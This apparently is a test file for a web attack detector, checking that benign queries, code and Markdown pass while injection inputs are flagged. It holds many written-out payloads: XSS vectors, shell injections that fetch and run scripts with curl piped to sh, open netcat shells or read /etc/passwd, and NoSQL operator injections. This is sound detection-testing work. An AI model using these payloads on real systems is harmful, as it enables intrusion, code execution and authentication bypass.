  for (const v of [`';x=eval;${' '.repeat(420)}[name].map(x)//`, "';x/**/=eval;[name].map(x)//", "';(x)=eval;[name].map(x)//", "';ä=eval;[name].map(ä)//", "';Reflect.apply(ä=eval,self,[name])//", "';[name].map(é=eval,self)//", "';onerror/**/=alert;throw 1//", "';then=prompt;Promise.resolve(self)//", "';\n  a=prompt,\n  [1].map(a)//", "';\n  a=prompt\n  ;[1].map(a)//"]) t.ok(q(v).includes('xss'), JSON.stringify(v))
  // a key named twice: the parse's last value is not the one the cut ended (Chromium ran the script the exemption hid)
  const body = `{"a":"s","d":",top.location=top.name]});//","c":"<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({x:[","a":"${'x'.repeat(17000)}"}`
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(body) }).includes('xss'), 'a key named twice')
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(body.replace('"a":"x', '"\\u0061":"x')) }).includes('xss'), 'a key named twice, escaped')
  // a Markdown comment that fetches, substitutes or hands a program code stays read (bash and dash ran each)
  const md = (c: string) => json({ body: `# Notes\n\n<!--\n${c}\n-->\n\nSome text here for the page.` })
  for (const c of ['sh -c "$(curl -s http://127.0.0.1:18778/x)"', 'curl -s http://127.0.0.1:18778/x -o /tmp/s; sh /tmp/s', 'curl -s http://127.0.0.1:18778/p|python3', 'python3 -c "import os;os.system(\'id\')"']) t.ok(md(c).includes('rce'), c)
  t.same(md('$ tree -L 1 ./pkg/printers/ | grep -v test'), [], 'a listing for the editors')
})

t.test("forty-third round, read-through: only the parse's own \\u escapes hold the application's reading back", async (t) => {
  // a backslash kept, then `u0027`: the string's own decoding makes the quote, and judges it as made
  const v = `{"x":"<form id=MathJax><input name=Hub></form><script>MathJax.Hub.Config({a:['\\\\u0027',alert(1),'\\\\u0027']})</script>"}`
  t.ok(q(v).includes('xss'), 'an escaped backslash before u0027 (query)')
  t.ok(json({ page: v }).includes('xss'), 'an escaped backslash before u0027 (JSON)')
})

t.test("the forty-third round's readings are bounded: cut bodies nested past the ceiling, of hundreds of keys, of one long string", async (t) => {
  const body = (text: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(text) })
  t.doesNotThrow(() => body(`{"a":${'['.repeat(20_000)}"x`), 'nested past the parse ceiling, cut')
  t.same(body(`{${Array.from({ length: 600 }, (_, i) => `"k${i}":"v${i}"`).join(',')},"z":"${'x'.repeat(20_000)}"}`), [], 'hundreds of keys, then a string the cut ends')
  t.ok(body(`{${Array.from({ length: 600 }, (_, i) => `"k${i}":"v${i}"`).join(',')},"z":"<img src=x onerror=alert(1)> ${'x'.repeat(20_000)}"}`).includes('xss'), 'and markup before the cut in it')
  t.doesNotThrow(() => body(`{"a":"${'\\\\'.repeat(10_000)}`), 'a cut string of backslashes')
})

t.test("forty-fourth round: a Kusto query's stages are a table's rows filtered, ordered and picked; a Windows page's table rows", async (t) => {
  // Azure Monitor workbooks' queries (Log Analytics, Data Explorer): stages on lines of their own, and a query of one line
  const kql = 'let Usage = ADXTableUsageStatistics\r\n| where TimeGenerated {TimeRange}\r\n| where DatabaseName == \'{DatabaseName}\'\r\n| extend Days = datetime_diff(\'day\', StartedOn, MinCreatedOn)\r\n| summarize Count=count() by User, ApplicationName\r\n| top 10 by Count desc\r\n| project User, Count;\r\nUsage\r\n| sort by Count nulls last\r\n| take 5\r\n'
  t.same(json({ query: kql }), [], 'a multi-line query')
  t.same(json({ query: "let Now=now(); Availability_CL | where Instance_s == '{Instance}' | top 1 by TimeGenerated desc | extend Down = iff(Now - TimeGenerated > 20min, 1, 0)" }), [], 'a one-line query')
  for (const v of ['| where "a" == "a"', "| where 1 == 1", "| where ClusterId =~ '{clusterId}'", '| top 1 by isMissing asc', '| sort by IngestionVolume nulls last', '| project DataType', '| where isnotempty(Computer)', '| where Level in ("Error", "Warning")', '| render timechart', '| union Perf', '| mv-expand Tags', '| parse Message with * "user=" User " " *']) {
    t.same(json({ query: v }), [], `a condition's query alone: ${v}`)
    t.notOk(shellInjection(v.toLowerCase()), `and to the shell: ${v}`)
  }
  // what a shell runs stays read: options, a program in parentheses, another command after the stage, a redirection's own command
  for (const v of ['| top -b -n 1', '| top 1 by (whoami)', '|top 1 by x; id', '| where x == 1 | id', '| sort by x && curl http://127.0.0.1:9/x|sh', 'x; top 5 by cpu | nc 127.0.0.1 9', '| where /r c:\\ *.conf']) {
    t.ok(shellInjection(v.toLowerCase()), v)
  }
  for (const v of ['1 | top 1 by (whoami)', "x' | sort by y; id #", '| where x == 1 | id']) t.ok(q(v).includes('rce'), v)
  // a Markdown table written on Windows (CRLF) is a table: its header's `|Date|` runs nothing; a row a command line ends is still read
  const page = (rows: string) => json({ body: `## Release notes\r\n\r\n|Version|Description|Date|\r\n|---|---|---|\r\n${rows}` })
  t.same(page('| v1.0 | initial release | April 1, 2024 |\r\n'), [], 'a CRLF table')
  t.ok(page('| v1.0 | initial release | April 1, 2024 |\r\n\r| curl -s http://127.0.0.1:9/x|sh #|\n').includes('rce'), 'a carriage return alone still parts no row')
  t.ok(page('| v1.0 | x |\r\n; curl -s http://127.0.0.1:9/x|sh\r\n').includes('rce'), 'a command line under the table')
})

t.test("forty-fourth round: a notebook's number given to a program's name; Plotly's graph frame stays read", async (t) => {
  // a notebook's parameters parted by `;`: `nc = 200` is a variable, netcat given `=` and a number reaches nothing
  t.same(json({ source: 'mu1 = 0.0; sig1 = 1.0; mu2 = 0.0; sig2 = 1.0; seed = 73073; nc = 200\n' }), [], 'nc = 200')
  // (second review) an interpreter runs a file named `=` (bash, dash, zsh and python3 ran a planted one); a program that changes files
  for (const v of ['x; nc = 200 -e /bin/sh', 'x; nc = 4444; id', 'x; cat = /etc/passwd', 'x; nc 127.0.0.1 200', '; nc = 200', 'x; sh = 200', 'x; python3 = 1', 'x; rm = 1', 'x; chmod = 777', 'seed = 73073; sh = 200']) t.ok(shellInjection(v), v)
  // Plotly's Chart Studio frame (the second review: its figures are their authors', and a link in one navigated the page on a click)
  const frame = (attrs: string) => json({ outputs: [{ data: { 'text/html': [`<iframe id="igraph" scrolling="no" style="border:none;" seamless="seamless" src="https://plot.ly/~mpyrcz/30.embed" height="525px" width="100%"${attrs}></iframe>`] } }] })
  t.ok(frame('').includes('xss'), "Plotly's frame")
})

t.test("forty-fourth round's review: a Kusto stage's line and the lines after it, `top` and `sort` given KQL's clause only, CR LF rows of plain text", async (t) => {
  // bash, dash and zsh ran each of these spliced into `grep -i VALUE file` (or inside its quotes)
  for (const v of ['x | top 1 by `id>/tmp/m1` #', "x' | top 1 by `id` #", 'x | top 5 by y\nid #', 'x | top 5 by y\r\nid', 'x | top 5 by y\n| where a == 1\nid #', 'x | top 1 by y \\\nid', 'x | top 1 by y ${IFS}`id`', '1|top 1 by y\nid', '| top 1 by y\nid']) {
    t.ok(shellInjection(v.toLowerCase()), JSON.stringify(v))
    t.ok(q(v).includes('rce'), `${JSON.stringify(v)} (query)`)
  }
  // code spans a reading sets aside leave `top`'s clause without its columns: the stage is `top` run, as before the round
  t.ok(q('x | top 1 by `curl -so /tmp/p http://127.0.0.1:9/p` `sh /tmp/p` #').includes('rce'), 'code spans after top … by')
  // a JSON text inside a string: its written breaks end the stage's line
  t.same(json({ query: '{"queryText":"T\\r\\n| where a == @\\"{server}\\"\\r\\n| top 1 by sample_time_utc desc\\r\\n| project a"}' }), [], 'written breaks')
  // rows ending in CR LF that hold a quote, a substitution or a separator stay read
  const page = (row: string) => json({ body: `## Notes\r\n\r\n|a|b|\r\n|---|---|\r\n${row}\r\n` })
  for (const row of ["| x'; id>/tmp/m2; echo ' |", '|x| `id>/tmp/m3` |', '|x| $(id>/tmp/m4) |', "| x'&&id&&echo ' |", "| x' | sh -c id | cat ' |", '| x"; id; echo " |']) t.ok(page(row).includes('rce'), row)
})

t.test("forty-fourth round's second review: every line after a Kusto stage a query's, a stage's line no longer than its window, a table's first row read", async (t) => {
  // bash, dash and zsh ran `id` (or fetched and ran a script) after `top 5 by y` for each
  const lines = ['A=1 id #', 'exec id #', 'command id #', '! id #', 'eval id #', 'setsid id #', 'if id; then :; fi #', 'case x in x) id;; esac #', '2>/dev/null id #', '</dev/null id #', '{ id; }', "'id'", 'ID=1 sh /tmp/p']
  for (const l of lines) t.ok(q(`x | top 5 by y\n${l}`).includes('rce'), l)
  t.ok(q(`x | top 5 by y${'\n'.repeat(36)}curl -so /tmp/p http://127.0.0.1:9/p\nsh /tmp/p #`).includes('rce'), 'a command 36 lines on')
  t.ok(q(`x | top 5 by y${'\n| where a == 1'.repeat(33)}\nid #`).includes('rce'), 'after 33 stages')
  t.ok(q(`x | top 1 by y | where a == b${' and a == 1'.repeat(200)} \`id>/tmp/m\` #`).includes('rce'), 'a substitution past 2,000 characters')
  // a query's own lines pass: statements, a list's items, a join's sides, a datatable's rows, a call
  const kql = "let missing = view () { print isMissing=1 };\nlet t = datatable(TableName:string, Id:string)\n[\n'SapHana_Disks_CL:', disks,\n1, 2\n];\nunion isfuzzy=true missing, (T\n| join kind=inner (U) on $left.Key == $right.Key\n| top 1 by Count desc\n| project Key)\n| where isnotempty(Key)\nprint(iif(n == 0, 'yes', 'no'))"
  t.same(json({ query: kql }), [], 'a query of statements')
  // a CR LF row opening the value: its pipes follow the command the value is spliced after (bash and dash fetched and ran a script)
  t.ok(q('| x | curl -s http://127.0.0.1:9/p | sh |\r\n|---|---|\r\n| v1.0 | initial release |\r\n\r\n## Notes\r\n\r\n- first item\r\n').includes('rce'), 'the first row')
})

t.test("the forty-fourth round's readings are bounded: thousands of Kusto stages, on one line, on lines of their own, after written breaks", async (t) => {
  // (forty-seventh round: judged whole by a detector that reads 1 MiB of a body: cut at the default 16 KiB, the second value ends on
  // `| top`, a command now that every line of it is read)
  const whole = new AttackDetector({ maxInspectBytes: 1 << 20 })
  for (const v of ['|where a==1 '.repeat(6000), '\n| top 1 by x'.repeat(5000), '\\n| where a == 1'.repeat(4000), `x | top 1 by y${'\na'.repeat(30000)}`]) {
    t.doesNotThrow(() => shellInjection(v.toLowerCase()), `${v.length} characters`)
    t.same(whole.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ query: v })) }), [], `${v.length} characters, no command among them`)
  }
})

t.test("forty-fourth round, after the eightieth part's measurement: W3C design tokens' $type, a PromQL matcher alternating variables", async (t) => {
  // a design token (Open edX Paragon's, Style Dictionary's): `$type` beside `$value`, or a group's beside its tokens
  t.same(json({ size: { $type: 'number', $value: 0.5, $description: 'opacity' } }), [], 'a token')
  t.same(json({ color: { $type: 'color', carousel: { control: { $value: '{color.white}' } } }, spacing: { $type: 'number', base: { $value: 4 } } }), [], 'groups')
  // MongoDB's `$type` in an object of operators alone stays read, however it is spelt
  for (const body of ['{"user":"admin","password":{"$type":"string"}}', '{"user":"admin","password":{"$type":2}}', '{"password":{"$type":"string","$ne":""}}', '{"a":{"$type":["string","int"]}}', '{"filter":{"password":{"$type":"string"}},"x":{"$value":1}}']) {
    t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(body) }).includes('nosqli'), body)
  }
  // RabbitMQ's Grafana dashboard: the matcher's `|` between two variables is the pattern's
  t.same(json({ expr: 'max(rabbitmq_build_info * on(instance, job) group_left(rabbitmq_node) rabbitmq_identity_info{rabbitmq_node=~"$src_node|$dst_node"}) by(rabbitmq_node)' }), [], 'variables alternated')
  for (const v of ['src_node=id; max(up{node=~"$src_node|$dst_node"}) by (job)', 'up{node=~"$a|id"}', 'x"; up{node=~"$a|$b"}; id #']) t.ok(q(v).includes('rce'), v)
})

t.test("forty-fourth round's third review: a query line's head, a stage's own line after top, a case's rows, stages counted as separators", async (t) => {
  // bash, dash and zsh ran each after `top 5 by y` (the last in zsh only)
  for (const l of ['find /tmp -maxdepth 0 -exec sh -c id {} + #', '//usr/bin/id>/tmp/m3 #', '//bin/sh -c id', 'a=1 b=1 c=1 d=1 e=~ id #', 'a=1 b=1 c=1 d=1 e==1 id #', 'f() { id; }; f #', 'script on -qc id #', 'noglob - id #']) t.ok(q(`x | top 5 by y\n${l}`).includes('rce'), l)
  for (const v of ['x | top 5 by y | where a == 1; if true; then id; fi #', 'x | top 5 by y | where a == 1; for i in 1; do id; done #', 'x | top 5 by y | where a == 1; f() { id; }; f #']) t.ok(q(v).includes('rce'), v)
  // zsh takes a row's leading `|` before a case's pattern: a CR LF row inside a case stays read
  t.ok(json({ body: "## Notes\n\n: '\n|---|---|\n'\ncase a in\n| a) curl -s http://127.0.0.1:9/p | sh |\r\nesac #" }).includes('rce'), "a case's row")
  // a query's comments, commented-out stages and a clause's keyword on a line of its own pass
  t.same(json({ query: "//find all resources and their status\n//| where name_s == 'constraints'\nT\n| summarize arg_max(TimeGenerated, *)\n    by NodeName, Kind\n| top 1 by TimeGenerated desc" }), [], 'comments and a clause going on')
  // thousands of stages on one line cost 32 stage checks at most
  const line = `x ${'|take 1+'.repeat(240)}\n`
  t.same(json({ query: line.repeat(30) }), [], 'lines of stages')
})

t.test("forty-fourth round, after the eightieth part's measurement: a run of comments after one tag's end in an icon", async (t) => {
  // Vue's rendered icon (Wikimedia Codex's snapshots): two comments, each on its line, between the svg's tag and its drawing
  const icon = (between: string) => json({ snippet: `<span\n  class="cdx-icon"\n>\n  <svg\n    aria-hidden="true"\n    height="20"\n    viewBox="0 0 20 20"\n    width="20"\n    xmlns="http://www.w3.org/2000/svg"\n  >\n${between}\n    <g>\n      <path\n        d="M19 19H1V1h18zm-8.5-6-2-2L5 15h10V8z"\n      />\n    </g>\n  </svg>\n</span>` })
  t.same(icon('    <!--v-if-->\n    <!-- eslint-disable vue/no-v-html -->'), [], 'two comments')
  // a comment holding a tag or a quote, or markup between the comments, keeps the icon read
  t.ok(icon('    <!--v-if-->\n    <!-- x --><script>alert(1)</script><!-- y -->').includes('xss'), 'a script between comments')
  t.ok(icon('    <!--v-if-->\n    <!-- "x --><img src=x onerror=alert(1)> -->').includes('xss'), 'a quote in a comment')
})

t.test("forty-fourth round's fourth review: a matcher's quote closed by the selector, frameworks' comments and a style's, in-memory engines' $type", async (t) => {
  // bash, dash and zsh ran `id` with the value spliced inside a command's double quotes, or not
  for (const v of ['up{job=~"$src|$dst""id #', '"up{job=~"$src|$dst""id #', 'up{job=~"$a|$SHELL"" -c id "', 'x ${dst:=id}; up{job=~"$src|$dst"}', 'node=id; up{job="x",node=~"$node|$peer"}']) t.ok(q(v).includes('rce'), v)
  t.same(json({ expr: 'up{job="x",node=~"$node|$peer"}' }), [], 'a label matched against its own variable')
  // Knockout ran `alert` from its container-less binding, and Chromium fetched a style sheet imported inside `<style>`'s markers
  for (const v of ['<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><!-- ko text: alert(1) --><!-- /ko --><path d="M0 0h24v24H0z"/></svg>', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0"/><p><style><!----><!--@import url(http://127.0.0.1:9/x.css);--></style></svg>', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><!-- directive: my-dir x --><path d="M0 0h24v24H0z"/></svg>']) t.ok(json({ page: v }).includes('xss'), v)
  // sift ignores a lone `$options`, mingo a `__proto__`, and mingo takes a type's number as a string: `$type` stays MongoDB's
  for (const body of ['{"user":"admin","password":{"$type":"string","$options":"i"}}', '{"user":"admin","password":{"$type":"string","__proto__":{}}}', '{"password":{"$type":"2"}}']) {
    t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(body) }).includes('nosqli'), body)
  }
})

t.test("forty-fourth round, after the eighty-first and eighty-second parts' measurement: PHP's method through ->, a sigil's variable in a bitwise and", async (t) => {
  t.same(json({ snippet: "        return $this->io->confirm('Do you want to proceed?', false);" }), [], "PHP's ->confirm(")
  for (const v of ["';a->confirm(1)//", "';x-->alert(1)//", '<b>alert(1)']) t.ok(q(v).includes('xss'), v)
  t.notOk(shellInjection('if (error_reporting() & $code) {'), "PHP's (error_reporting() & $code)")
})

t.test("forty-fourth round's fourth review, older than the round: MongoDB's bitwise query operators", async (t) => {
  // `{"pin": {"$bitsAllClear": 0}}` matches every numeric pin through mongoose and MongoDB; it was read by no rule
  for (const body of ['{"pin":{"$bitsAllClear":0}}', '{"pin":{"$bitsAnySet":[1,5]}}', '{"pin":{"$type":"number","$bitsAllClear":0}}']) {
    t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(body) }).includes('nosqli'), body)
  }
  for (const query of ['pin[$bitsAllClear]=0', 'user=a&pin%5B%24bitsAnySet%5D=1']) t.ok(detector.detect({ ...base, query }).includes('nosqli'), query)
})

t.test("the forty-fourth round's $type walk is bounded: nested past the walk, thousands of objects, and judged still", async (t) => {
  const body = (text: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(text) })
  // as deep as a body's parse goes (64 levels), and past MAX_FILTER_NODES objects, where the walk gives up and the document's values
  // decide, as before the round
  t.ok(body(`{"a":${'{"b":'.repeat(60)}{"$type":"string"}${'}'.repeat(60)}}`).includes('nosqli'), '60 levels deep')
  t.ok(body(`{"t":[${Array.from({ length: 600 }, () => '{"$type":"color","x":1}').join(',')}],"password":{"$type":"string"}}`).includes('nosqli'), '600 objects, then an operator')
  t.same(body(`{"t":[${Array.from({ length: 150 }, (_, i) => `{"$type":"number","$value":${i}}`).join(',')}]}`), [], '150 design tokens')
})

t.test("forty-fifth round: a reference among a call's arguments, a condition broken before `&&` or `||`, a path after a tautology", async (t) => {
  // Druid's closures and lnav's declaration: `name(` opens no group in a POSIX shell, so `&Env)` and `& ex)` run nothing
  for (const v of ["    pub fn new(action: impl Fn(&mut W, &mut LifeCycleCtx, &T, &Env) + 'static) -> Self {", '    pub fn new(widget: W, disabled_if: impl Fn(&T, &Env) -> bool + \'static) -> Self {', 'const attr_line_t& eval_example(const help_text& ht, const help_example& ex);']) {
    t.same(json({ snippet: v }), [], v)
    t.notOk(shellInjection(v.toLowerCase()), `and to the shell: ${v}`)
  }
  // a subshell after a shell's keyword, a group opened by a quote's or a backslash's side, a call closed before the `&`: still read
  for (const v of ['x;(a &id)', 'if(a &id)', 'while(true &id)', "f('(' &id)", 'f(\\( &id)', 'f(a) &id', 'x &env', 'f(a)\n&id', "f(x, '&id')' &id"]) t.ok(shellInjection(v.toLowerCase()), `still read: ${JSON.stringify(v)}`)
  // a line opening on `&&` or `||` (Psalm's condition broken before its operator) is read as before: the round set it aside, and the
  // fourth review had zsh run `id` after its short forms (`true; repeat 1⏎&& id`, `if (true)⏎&& id`), so that was taken back
  for (const v of ['true; repeat 1\n&& id', 'if (true)\n&& id', '{ repeat 1\n&& id\n}', 'repeat 1\n# c\n&& id', 'x\n  || id']) t.ok(shellInjection(v.toLowerCase()), JSON.stringify(v))
  // on the value's first line a command may stand before it; a backslash continues the line before; the rest of the line is read
  for (const v of ['&& id', '|| id', 'x \\\n&& id', 'x\n&& y; id', 'x\n&& y\nid;id', 'x\n| id']) t.ok(shellInjection(v.toLowerCase()), `still read: ${JSON.stringify(v)}`)
  // a tautology's second operand the head of a path, `Event::Character`: `x == x::y` is no comparison of a thing to itself
  t.same(json({ snippet: "    if (event == Event::ArrowRight || event == Event::Character('l')) {\n      MoveSelector(+1);\n    }" }), [], "FTXUI's event test")
  for (const v of ["' || 'a'=='a", "a' || a == a //", "1 || x==x"]) t.ok(q(v).includes('nosqli'), `still read: ${v}`)
})

t.test("forty-fifth round's review: a call's group closed on its line, outside a parameter's expansion; both forms of a decoded value; a quoted operand; a tag's name in a JavaScript string", async (t) => {
  // zsh ends the word at `&` and runs what follows when no `)` closes the line; inside `${x:-f(}` the parenthesis is text
  for (const v of ['127.0.0.1 ${x:-f(} & id', 'a ${u:-f(} & id > /tmp/x', 'x f( & id > /tmp/x', '127.0.0.1 ${x#f(} & id']) {
    t.ok(q(v).includes('rce'), `still read: ${v}`)
    t.ok(shellInjection(v.toLowerCase()), `and to the shell: ${v}`)
  }
  // a `(` or a line break that only the detector's second decoding makes: the application holds `x%28 & id %29`, `x%0A|| id`
  for (const query of ['q=x%2528%20%26%20id%20%2529', 'q=x%2528%20%26%20id', 'q=x%250A%7C%7C%20id', 'q=echo%20x%250a%26%26%20id']) t.ok(detector.detect({ ...base, query }).includes('rce'), query)
  for (const v of ['x\\u000a|| id', 'x%0A|| id', 'x%28 & id %29']) t.ok(json({ q: v }).includes('rce'), `in a JSON field: ${v}`)
  // a quoted second operand is a string: `1 != '1::'` is true in a $where
  for (const v of ["0 || 1!='1::'", '0||1!="1::"', "0 || (1!='1::')"]) t.ok(q(v).includes('nosqli'), v)
  // a tag's name then a quote is markup a script builds: `'<iframe'.concat(' src=…>')` loaded a frame in Chromium, so the round's
  // relaxation for it was taken back (Telephoto's `"<svg".encodeUtf8()` stays flagged)
  for (const v of ["<iframe'.concat(' src=//127.0.0.1:9/hit>')+'", '<embed".concat(" src=/x.svg>")', "<iframe', ' src=//127.0.0.1:9/hit>", "<iframe'; s+=' src=//127.0.0.1:9/hit>"]) t.ok(q(v).includes('xss'), v)
})

t.test("forty-fifth round's second review: a vertical tab or a form feed before `||`, a parenthesis in zsh's bracket expression or bash's subscript", async (t) => {
  // `\v` and `\f` are a command's name to bash, dash and zsh: the line does not open on `||`, and `id` ran
  for (const v of ['127.0.0.1\n\u000b|| id > /tmp/x', '127.0.0.1\n\f|| whoami', "x'\n\u000b|| id > /tmp/x #"]) {
    t.ok(q(v).includes('rce'), JSON.stringify(v))
    t.ok(json({ q: v }).includes('rce'), `in a JSON field: ${JSON.stringify(v)}`)
  }
  // zsh's `127.0.0.1[f(]` and bash's `a[f(]=1`: the `(` is a character, the `&` a separator, the `)` commented out
  for (const v of ['127.0.0.1[f(] & id > /tmp/x #)', '127.0.0.1 x[f(] & sleep 5 #)', "x'[f(] & id > /tmp/x #)", 'a[f(]=1 & id > /tmp/x #)', 'a[f(]=1 & whoami )']) {
    t.ok(q(v).includes('rce'), v)
    t.ok(shellInjection(v.toLowerCase()), `and to the shell: ${v}`)
  }
  // the round's own cases stay set aside
  for (const v of ['    pub fn new(widget: W, disabled_if: impl Fn(&T, &Env) -> bool + \'static) -> Self {']) t.notOk(shellInjection(v.toLowerCase()), JSON.stringify(v))
})

t.test('forty-fifth round, older gaps the reviews confirmed: the shells\' own words that run a command, assignments of its environment', async (t) => {
  // `exec`, `command`, `builtin`, `eval`, zsh's `noglob`: the listed program after them runs
  for (const v of ['x; exec id #', 'x;exec id', 'x; command id', 'x; builtin pwd', 'x; eval id', 'x && noglob cat /etc/passwd']) t.ok(q(v).includes('rce'), v)
  // `A=1 id`, `LANG=C curl …`: up to eight assignments, then the command is judged as after any separator
  for (const v of ['x; A=1 id', 'x && LANG=C curl http://127.0.0.1:9/x', 'x; a=1 b=2 c=3 d=4 e=5 id', "x'; A=1 cat /etc/passwd #"]) t.ok(q(v).includes('rce'), v)
  // an export names, a sentence's "command" goes on with words, a statement's assignment is followed by no program
  for (const v of ['x; export A=1 id', 'use this; command line tools', 'a=1; b=2 c', 'x; A=1 B=2', 'x; A=1 the cat']) t.notOk(shellInjection(v.toLowerCase()), v)
})

t.test("forty-fifth round's third review: a `)` zsh reads as another word's or a comment's, zsh's short forms before `&&`, a blank only decoding made, a program cmd.exe runs", async (t) => {
  // zsh ends `f(` at the blank and runs what follows the `&` where the `)` is a comment's or another word's group
  for (const v of ['127.0.0.1 f( & id #)', '127.0.0.1 f( & id > /tmp/x #)', '127.0.0.1 f( & id & echo g(x)', '127.0.0.1 f(x & whoami )']) {
    t.ok(q(v).includes('rce'), v)
    t.ok(shellInjection(v.toLowerCase()), `and to the shell: ${v}`)
  }
  // zsh's anonymous function, `repeat`, `for`, `select` take a body opening on `&&` on the next line
  for (const v of ['127.0.0.1\nfunction\n&& id > /tmp/x', '127.0.0.1\nrepeat 1\n&& id', '127.0.0.1\nfor x in a\n&& id', 'select x in a\n&& id', 'function f\n\n&& id\nf']) {
    t.ok(shellInjection(v.toLowerCase()), JSON.stringify(v))
  }
  // a blank that only the detector's decoding makes (the application keeps `%20`, `\x20`): the line opens on a command's name
  for (const query of ['q=127.0.0.1%0A%2520%7C%7C%20id', "q=%27%0A%2520%7C%7C%20id%20%23", 'q=127.0.0.1%0A%5Cx20%7C%7C%20id']) t.ok(detector.detect({ ...base, query }).includes('rce'), query)
  for (const v of ['127.0.0.1\n%20|| id', '127.0.0.1\n\\x20|| id > /tmp/x', '127.0.0.1\n\\u0020|| id', '127.0.0.1\n%09|| id']) t.ok(json({ snippet: v }).includes('rce'), `in a JSON field: ${JSON.stringify(v)}`)
  // the round's own cases stay set aside: Druid's and lnav's references
  for (const v of ['    pub fn new(action: impl Fn(&mut W, &mut LifeCycleCtx, &T, &Env) + \'static) -> Self {', 'const attr_line_t& eval_example(const help_text& ht, const help_example& ex);']) t.notOk(shellInjection(v.toLowerCase()), JSON.stringify(v))
})

t.test("forty-fifth round's fourth review: a group opened before the call, in zsh", async (t) => {
  // zsh reads `f(` as a bad pattern, runs what follows the `&`, and the `)` closes the subshell opened before
  for (const v of ['(f( &id)', '( f( &id )', '(f( & id -a )', 'true;(f( & id -a )', '(\nf( & id\n)']) {
    t.ok(q(v).includes('rce'), JSON.stringify(v))
    t.ok(shellInjection(v.toLowerCase()), `and to the shell: ${JSON.stringify(v)}`)
  }
  // a program's calls have their parentheses glued to their names: Druid's closure after its doc comment stays set aside
  t.same(json({ snippet: "impl<T: Data, W: Widget<T>> Added<T, W> {\n    /// Create a new [`Controller`] widget to respond to widget added to tree event.\n    pub fn new(action: impl Fn(&mut W, &mut LifeCycleCtx, &T, &Env) + 'static) -> Self {\n        Self {\n            action: Box::new(action),\n        }\n    }\n}" }), [], "Druid's Added::new")
})

t.test("forty-fifth round's fifth review: an alias defined on an earlier line, an eval", async (t) => {
  // dash, `bash --posix` and bash with expand_aliases read `f(` through the alias: `true;( x & id -a )`; zsh's eval spells the `(`
  for (const v of ['127.0.0.1\nalias f=true\\;\nf( x & id -a )', "127.0.0.1\nalias f='true;'\nf( x & id -a )", "127.0.0.1\nalias f=' '\nf(true & id -a )", "x'\nalias f=true\\;\nf( x & id -a ) #", "eval $'\\050f( & id -a )'"]) {
    t.ok(q(v).includes('rce'), JSON.stringify(v))
    t.ok(shellInjection(v.toLowerCase()), `and to the shell: ${JSON.stringify(v)}`)
  }
  // a name that holds the word, lnav's `eval_example(`, is no eval
  t.same(json({ snippet: 'const attr_line_t& eval_example(const help_text& ht, const help_example& ex);' }), [], "lnav's eval_example")
})

t.test("found by the forty-fifth round's fifth review, older than the round: zsh's glob qualifiers that run a command", async (t) => {
  // `e` with a delimited command and `+` naming one run it for every file the glob matches (zsh ran `id` from each)
  for (const v of ['127.0.0.1 *(e:id -a:)', 'x *(+id)', '/*(e:"id":)', 'x ?(.e:id:)']) t.ok(q(v).includes('rce'), v)
  // a selector's labels, a pointer's arithmetic, a pattern's repetition are no qualifiers
  for (const v of ['#selector(insert(e:at:))', 'int y = *(p + i);', 'a.*(e:x)']) t.same(json({ snippet: v }), [], v)
})

t.test("the forty-fifth round's readings are bounded: long values whose decoding makes parentheses and line feeds", async (t) => {
  // thousands of parentheses and line feeds only the detector's second decoding makes: the application's form is still read, to its end
  t.ok(detector.detect({ ...base, query: `q=${'x%2528'.repeat(2000)}%20%26%20id%20%2529` }).includes('rce'), '2,000 decoded parentheses, then the command')
  t.ok(detector.detect({ ...base, query: `q=${'%250A'.repeat(3000)}x%2528%20%26%20id%20%2529` }).includes('rce'), '3,000 decoded line feeds, then the command')
  // 600 calls with a reference each, as code has them: no command in either form
  t.same(detector.detect({ ...base, query: `q=${'f%2528a%2C%20%26b%2529%20'.repeat(600)}` }), [], '600 references among calls')
})

t.test("forty-sixth round: a table's rows the shells refuse, a program's subscripts by a variable, a form's page under a Setext title", async (t) => {
  // a Markdown table in a docstring, a notebook, a page: a row ending on `|` over a row opening on one, and the rows after it
  const kino = '  Renders a table:\n\n      | ID | Name   | Website                 |\n      |----|--------|-------------------------|\n      | 1  | Elixir | https://elixir-lang.org |\n'
  for (const v of [kino, '| ID | Name | Website |\n|----|----|----|', '| set | T | 24 | 4 |\n|---|---|', 'intro\n\n| id | name |\n|---|---|\n| 1 | id |', '| x | y |\n|--|\n| a | whoami (b) |\n\nThat is all.']) {
    t.same(json({ snippet: v }), [], JSON.stringify(v))
    t.notOk(shellInjection(v.toLowerCase()), `and to the shell: ${JSON.stringify(v)}`)
  }
  // still read: the value's last line ending on a pipe (the application may splice more after it), a row over a line that opens on no
  // pipe (`+---+`, a command to the shells), a row a backslash joins to the line before, one whose last pipe a comment or an
  // alias hides, a line opening on `|` after one that does not end on one (PowerShell 7 continues that line's pipeline)
  for (const v of ['x| id |', '| whoami |', '+---+\n| whoami|\n+---+', 'a \\\n| whoami |', 'x | whoami | a #|\n|--|', 'x | whoami & rem |\n|--|', 'alias a="true #"\nx | whoami | a |\n|--|', 'x\n| whoami', '| a |\n| x" ; whoami', 'x | whoami |\r\n|--|\r\n']) {
    t.ok(q(v).includes('rce'), JSON.stringify(v))
  }
  // PHP's subscripts and array literals of a variable in a program: no query's `[$type]` operator; a parameter's name glued to `=` still is one
  const php = '    public function validate($context): ?ValidationError\n    {\n        $type = $context->currentDataType();\n        if (!isset($this->types[$type])) {\n            return null;\n        }\n        $list[$type][] = $value;\n        $shared->types = [$type];\n    }\n'
  t.same(json({ snippet: php }), [], 'PHP subscripts by $type')
